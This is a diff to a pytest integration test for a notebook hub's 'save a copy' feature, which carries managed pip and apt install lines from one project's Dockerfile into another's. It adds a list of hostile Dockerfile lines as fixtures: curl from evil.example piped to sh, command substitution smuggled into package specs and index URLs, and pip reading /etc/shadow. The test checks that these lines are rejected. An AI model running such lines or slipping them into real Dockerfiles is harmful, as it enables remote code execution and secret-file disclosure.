@@ -1,19 +1,26 @@
 """Save a copy (/hub/gpulab/copy): a notebook someone may read lands in a project of
-their own, against a real hub and real project containers."""
+their own, against a real hub and real project containers; the packages installed
+with %gpu_install in the source project come along into the destination's
+Dockerfile (in Chromium: test-output/copy-installs-offer.png, -result.png), and a
+hostile source Dockerfile brings nothing dangerous along."""
 
 from __future__ import annotations
 
 import json
 import os
-from urllib.parse import quote
+from urllib.parse import quote, urlencode
 
 import pytest
+from conftest import REPO
 from hubclient import HubUser
 
 from gpulab_hub.sharing import roles
 
 pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("show_logs_on_failure")]
 
+CHROMIUM = "/usr/bin/chromium"
+CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]
+SHOTS = REPO / "test-output"
 OWNER, SRC, OTHER = "cpalice", "cp-src", "cp-other"
 READER, MINE = "cpbob", "cp-mine"
 STRANGER = "cpdave"
@@ -79,12 +86,17 @@ def copy_page(user: HubUser, **query):
     return user.http.get(user.base + "/hub/gpulab/copy", params=query, timeout=30)
 
 
-def save_copy(user: HubUser, target: str = "", new_project: str = "", **query):
+def save_copy(
+    user: HubUser, target: str = "", new_project: str = "", bring_installs: str = "", **query
+):
     xsrf = user.http.cookies.get("_xsrf", path="/hub/")
+    form = {"_xsrf": xsrf, "target": target, "new_project": new_project}
+    if bring_installs:  # a ticked box sends its value; an unticked one nothing
+        form["bring_installs"] = bring_installs
     return user.http.post(
         user.base + "/hub/gpulab/copy",
         params=query,
-        data={"_xsrf": xsrf, "target": target, "new_project": new_project},
+        data=form,
         allow_redirects=False,
         timeout=30,
     )
@@ -233,3 +245,197 @@ def test_unrelated_user_and_unshared_project_refused(people, projects):
     anon = HubUser(bob.base, "", "")
     r = anon.http.get(anon.base + "/hub/gpulab/copy", params=where, allow_redirects=False)
     assert r.status_code == 302 and "/hub/login" in r.headers["Location"]
+
+
+# --- The source project's packages come along (its Dockerfile's managed block) ---
+
+HUMANIZE = "RUN python -m pip install --no-cache-dir humanize==4.9.0 && python -c 'import humanize'"
+COMPILED = (
+    "RUN TORCH_CUDA_ARCH_LIST=9.0+PTX CMAKE_CUDA_ARCHITECTURES='90-real;90-virtual' "
+    "CUDAARCHS='90-real;90-virtual' FLASH_ATTN_CUDA_ARCHS=90 FORCE_CUDA=1 MAX_JOBS=4 "
+    "CMAKE_BUILD_PARALLEL_LEVEL=4 python -m pip install --no-cache-dir --no-build-isolation "
+    "flash-attn==2.6.3 && python -c 'import flash_attn'"
+)
+INDEXED = (
+    "RUN python -m pip install --no-cache-dir --index-url http://pkgs.example.org/simple "
+    "--trusted-host pkgs.example.org tiny-http==1.0 && python -c 'import tiny_http'"
+)
+HOSTILE = [
+    "RUN curl http://evil.example/x | sh",
+    "RUN python -m pip install --no-cache-dir six==1.16.0 && curl http://evil.example/x | sh",
+    "RUN python -m pip install --no-cache-dir 'six==1.16.0; curl evil' && python -c 'import six'",
+    "RUN MAX_JOBS=$(curl evil) python -m pip install --no-cache-dir six==1.16.0",
+    "RUN python -m pip install --no-cache-dir --index-url 'http://x/$(id)' six==1.16.0",
+    "RUN python -m pip install --no-cache-dir six==1.16.0 && python -c 'import os; os.system(1)'",
+    "RUN echo continued \\",
+    "RUN python -m pip install --no-cache-dir six==1.16.0 && python -c 'import six'",  # continues
+    "RUN python -m pip install --no-cache-dir -r /etc/shadow six==1.16.0",
+]
+WHERE = {"owner": OWNER, "project": SRC, "path": "nb/results.ipynb"}
+
+
+def block_of(path) -> list[str]:
+    from gpulab_jupyter.magics import dockerfile
+
+    return [ln.rstrip("\n") for ln in dockerfile.split(path.read_text())[1]]
+
+
+def outside_block(path) -> str:
+    from gpulab_jupyter.magics import dockerfile
+
+    head, _, tail = dockerfile.split(path.read_text())
+    return "".join(head + tail)
+
+
+@pytest.fixture
+def source_installs(projects):
+    """cp-src's Dockerfile with what %gpu_install writes (its own writer); put back after."""
+    from gpulab_jupyter.magics import dockerfile
+
+    path = projects / OWNER / SRC / "Dockerfile"
+    original = path.read_bytes()
+    lines = [("humanize", HUMANIZE), ("flash-attn", COMPILED), ("tiny-http", INDEXED)]
+    dockerfile.update(path, lines, ["libgl1"], "1000:100")
+    yield path
+    path.write_bytes(original)
+
+
+@pytest.fixture
+def mine(projects):
+    """bob's cp-mine Dockerfile, put back after."""
+    path = projects / READER / MINE / "Dockerfile"
+    original = path.read_bytes()
+    yield path
+    if path.is_symlink():
+        path.unlink()
+    path.write_bytes(original)
+
+
+@pytest.mark.browser
+def test_a_copy_brings_the_packages_along(hub, people, source_installs, mine):
+    """In Chromium, as bob does it: the page lists the packages, ticked; he saves; the
+    page says what came along and that cp-mine must restart; the Dockerfile has them."""
+    from playwright.sync_api import expect, sync_playwright
+
+    before = outside_block(mine)
+    with sync_playwright() as pw:
+        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        page = browser.new_page(viewport={"width": 1100, "height": 900})
+        page.set_default_timeout(30_000)
+        try:
+            page.goto(f"{hub.url}/hub/login")
+            page.get_by_label("Username").fill(READER)
+            page.get_by_label("Password").fill(f"{READER}-Passw0rd-long")
+            page.get_by_role("button", name="Sign In").click()
+            page.wait_for_url("**/hub/**")
+            page.goto(f"{hub.url}/hub/gpulab/copy?{urlencode(WHERE)}")
+            offer = page.locator("#copy-installs")
+            expect(offer.get_by_label("Bring along the packages installed with")).to_be_checked()
+            items = offer.locator("#copy-install-list li")
+            expect(items).to_have_text([
+                "humanize==4.9.0", "flash-attn==2.6.3",
+                "tiny-http==1.0 (from http://pkgs.example.org/simple)", "apt: libgl1",
+            ])  # fmt: skip
+            expect(offer).to_contain_text("restart that project to build them")
+            expect(offer).to_contain_text("Without them, the copy's imports")
+            page.get_by_label(MINE, exact=True).check()
+            page.screenshot(path=SHOTS / "copy-installs-offer.png", full_page=True)
+            page.locator("#copy-submit").click()
+
+            expect(page.get_by_role("heading", name="Copy saved")).to_be_visible()
+            result = page.locator("#copy-installs-result")
+            expect(result).to_contain_text(f"were brought along into the Dockerfile of {MINE}")
+            expect(result.locator("li")).to_contain_text(["humanize==4.9.0"])
+            expect(result).to_contain_text(f"Restart {MINE} (stop it, then start it")
+            page.screenshot(path=SHOTS / "copy-installs-result.png", full_page=True)
+            copied = page.locator("#copy-saved strong").nth(1).inner_text()
+            href = page.locator("#copy-open").get_attribute("href")
+        finally:
+            browser.close()
+    assert copied.startswith("results (copy") and (mine.parent / copied).is_file()
+    assert href == f"/hub/user/{READER}/{MINE}/lab/tree/{quote(copied)}"
+    # Exactly those lines, in the managed block; nothing else of the file changed.
+    assert block_of(mine) == [
+        "USER root",
+        "RUN apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y "
+        "--no-install-recommends libgl1 && rm -rf /var/lib/apt/lists/*",
+        "USER 1000:100",
+        HUMANIZE,
+        COMPILED,
+        INDEXED,
+    ]
+    assert outside_block(mine) == before
+    # Still bob's container user's file: the magic in his project can write it.
+    folder = mine.parent.stat()
+    assert (mine.stat().st_uid, mine.stat().st_gid) == (folder.st_uid, folder.st_gid)
+    lock = mine.parent / ".gpulab" / "dockerfile.lock"
+    assert lock.is_file() and lock.stat().st_uid == folder.st_uid
+    # %gpu_install's own reader, in bob's project, sees them as its packages.
+    bob = people[READER]
+    out = bob.execute(MINE, "from gpulab_jupyter.magics import dockerfile\n"
+                            "print(sorted(dockerfile.managed_packages("
+                            "open('/workspace/Dockerfile').read())))")  # fmt: skip
+    assert out.strip() == "['flash-attn', 'humanize', 'tiny-http']", out
+
+
+def test_a_copy_without_the_packages_says_imports_may_fail(people, source_installs, mine):
+    bob = people[READER]
+    before = mine.read_bytes()
+    r = save_copy(bob, target=MINE, **WHERE)  # the box unticked: the field is not sent
+    assert r.status_code == 200, r.text
+    result = r.text.split('id="copy-installs-result"')[1].split('id="copy-open"')[0]
+    assert "You chose not to bring along the packages installed in" in result
+    assert "humanize==4.9.0" in result and "the copy's imports of them may" in result
+    assert mine.read_bytes() == before
+
+
+def test_a_hostile_source_brings_nothing_dangerous(people, projects, source_installs, mine):
+    bob = people[READER]
+    text = source_installs.read_text()
+    source_installs.write_text(
+        text.replace(
+            "# <<< gpulab managed block <<<",
+            "\n".join([*HOSTILE, "# <<< gpulab managed block <<<"]),
+        )
+    )
+    page = copy_page(bob, **WHERE)
+    offer = page.text.split('id="copy-installs"')[1].split("</fieldset>")[0]
+    assert "six" not in offer and "evil" not in offer
+    assert f"{len(HOSTILE)} other line(s) of {SRC}'s package section are" in offer
+    r = save_copy(bob, target=MINE, bring_installs="1", **WHERE)
+    assert r.status_code == 200, r.text
+    assert block_of(mine)[3:] == [HUMANIZE, COMPILED, INDEXED]
+    assert not [ln for ln in mine.read_text().splitlines() if "six" in ln or "evil" in ln]
+
+    # The source Dockerfile is a link (to a host file with a managed block): not read.
+    host_file = projects.parent / "hub" / "linked.Dockerfile"
+    host_file.write_text(text)
+    source_installs.unlink()
+    source_installs.symlink_to(host_file)
+    before = mine.read_bytes()
+    page = copy_page(bob, **WHERE)
+    assert f"gpulab did not read {SRC}&#39;s Dockerfile (it is a link), so its" in page.text
+    assert "humanize" not in page.text
+    r = save_copy(bob, target=MINE, bring_installs="1", **WHERE)
+    assert r.status_code == 200 and "(it is a link), so none of the packages" in r.text
+    assert mine.read_bytes() == before
+    source_installs.unlink()
+
+    # Huge: a valid block at the top of a file over 1 MiB is not read at all.
+    source_installs.write_text(text + "# padding\n" * 120_000)
+    page = copy_page(bob, **WHERE)
+    assert "(it is larger than 1 MiB)" in page.text and "humanize" not in page.text
+    r = save_copy(bob, target=MINE, bring_installs="1", **WHERE)
+    assert mine.read_bytes() == before
+
+    # The destination's Dockerfile is a link to a host file: nothing is written through it.
+    source_installs.write_text(text)
+    target_file = projects.parent / "hub" / "target.Dockerfile"
+    target_file.write_bytes(before)
+    mine.unlink()
+    mine.symlink_to(target_file)
+    r = save_copy(bob, target=MINE, bring_installs="1", **WHERE)
+    assert r.status_code == 200, r.text
+    assert "were <strong>not</strong> written to the Dockerfile of" in r.text
+    assert "it is a link" in r.text
+    assert target_file.read_bytes() == before and mine.is_symlink()
